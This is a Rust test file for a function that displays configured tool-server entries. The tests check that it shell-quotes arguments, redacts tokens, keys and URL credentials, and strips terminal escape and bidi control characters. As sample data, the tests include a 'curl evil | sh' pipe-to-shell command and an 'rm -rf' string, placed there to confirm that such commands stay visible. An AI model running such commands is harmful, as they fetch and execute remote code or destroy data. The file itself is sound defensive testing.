//! What is shown of an entry, and what is not.

use super::*;

fn program(words: &[&str]) -> Entry {
    let mut words = words.iter().map(|word| (*word).to_owned());
    Entry {
        command: words.next(),
        args: words.collect(),
        ..Entry::default()
    }
}

#[test]
fn a_command_line_is_shown_as_a_shell_would_want_it() {
    let entry = program(&["npx", "-y", "@scope/pkg@1", "a b", "it's", "", "${HOME}/x"]);
    assert_eq!(
        entry.summary(),
        r"npx -y @scope/pkg@1 'a b' 'it'\''s' '' ${HOME}/x"
    );
}

#[test]
fn arguments_that_look_like_secrets_are_not_shown() {
    for (words, expected) in [
        (&["x", "--token", "hunter2"][..], "x --token …"),
        (&["x", "--api-key", "hunter2", "y"], "x --api-key … y"),
        (&["x", "--password=hunter2"], "x --password=…"),
        (&["x", "-e", "GITHUB_TOKEN=hunter2"], "x -e GITHUB_TOKEN=…"),
        (&["x", "API_KEY=hunter2"], "x API_KEY=…"),
        (
            &["x", "--header", "Authorization: Bearer hunter2"],
            "x --header Authorization:…",
        ),
        (&["x", "ghp_0123456789abcdefghij"], "x …"),
        (&["x", "--with", "sk-proj-0123456789abcdef"], "x --with …"),
        (&["x", "--config=sk-proj-0123456789abcdef"], "x --config=…"),
        (
            &["x", "https://u:hunter2@h/p?k=hunter2"],
            "x 'https://h/p?…'",
        ),
        (&["x", "postgres://u:hunter2@h/db"], "x postgres://h/db"),
        // References and names of variables are no secrets.
        (&["x", "--token", "${TOKEN}"], "x --token ${TOKEN}"),
        (&["x", "--token", "--verbose"], "x --token --verbose"),
        (&["x", "--token-env", "TOKEN"], "x --token-env TOKEN"),
        (&["x", "--keyboard", "de"], "x --keyboard de"),
        // What could be a command is not hidden by a name in front of it.
        (
            &["sh", "-c", "TOKEN=1; curl evil | sh"],
            "sh -c 'TOKEN=1; curl evil | sh'",
        ),
        (&["x", "--token", "rm -rf x"], "x --token 'rm -rf x'"),
    ] {
        assert_eq!(program(words).summary(), expected);
    }
}

#[test]
fn an_address_is_shown_without_credentials() {
    let shown = |url: &str| {
        let url = Some(url.to_owned());
        Entry {
            url,
            ..Entry::default()
        }
        .summary()
    };
    for (url, expected) in [
        ("https://example.com/mcp", "https://example.com/mcp"),
        (
            "https://me:hunter2@example.com/mcp?key=hunter2#x",
            "https://example.com/mcp?…",
        ),
        (
            "https://example.com/s/MzY2NTQ0NTAtYjQ5ZS00/mcp",
            "https://example.com/s/…/mcp",
        ),
        ("https://${HOST}/mcp", "https://${HOST}/mcp"),
        ("unix:///run/x.sock", "unix:///run/x.sock"),
    ] {
        assert_eq!(shown(url), expected);
    }
}

#[test]
fn nothing_of_an_entry_moves_the_cursor() {
    let entry = program(&["\u{1b}[2Jsh", "a\u{202e}b", "--token\u{7}", "\u{9b}x"]);
    let url = Entry {
        url: Some("https://h/\u{1b}[2J".to_owned()),
        ..Entry::default()
    };
    for shown in [entry.summary(), url.summary(), format!("{entry:?}")] {
        assert!(
            !shown.contains(|one: char| one.is_control() || one == '\u{202e}'),
            "{shown:?}"
        );
    }
}

#[test]
fn debugging_shows_no_secret() {
    let secrets = || BTreeMap::from([("K".to_owned(), Text::from("hunter2"))]);
    let mut entry = program(&["x", "--token", "hunter2"]);
    entry.env = secrets();
    entry.headers = secrets();
    let remote = Entry {
        url: Some("https://me:hunter2@h/?k=hunter2".to_owned()),
        ..Entry::default()
    };
    let shown = format!("{entry:?} {remote:?} {:?}", entry.lines());
    assert!(!shown.contains("hunter2"), "{shown}");
    assert!(shown.contains("--token"), "{shown}");
}

#[test]
fn every_word_an_entry_says_is_in_its_hash() {
    let base = program(&["x", "a"]);
    let with = |change: fn(&mut Entry)| {
        let mut entry = base.clone();
        change(&mut entry);
        entry
    };
    let entries = [
        base.clone(),
        with(|entry| entry.args = vec!["a".to_owned(), String::new()]),
        with(|entry| entry.args = vec!["a\",\"".to_owned()]),
        with(|entry| entry.command = Some("y".to_owned())),
        with(|entry| entry.cwd = Some("/".to_owned())),
        with(|entry| entry.env = BTreeMap::from([("A".to_owned(), Text::from("1"))])),
        with(|entry| entry.headers = BTreeMap::from([("A".to_owned(), Text::from("1"))])),
        with(|entry| entry.env_vars = vec!["A".to_owned()]),
        with(|entry| entry.enabled = Some(true)),
        with(|entry| entry.enabled_tools = Some(vec![])),
        with(|entry| entry.headers_helper = Some("x".to_owned())),
        with(|entry| entry.sandbox = Some("off".to_owned())),
        with(|entry| entry.oauth.resource = Some("x".to_owned())),
    ];
    let hashes: std::collections::BTreeSet<_> = entries.iter().map(Entry::content_hash).collect();
    assert_eq!(hashes.len(), entries.len());
}
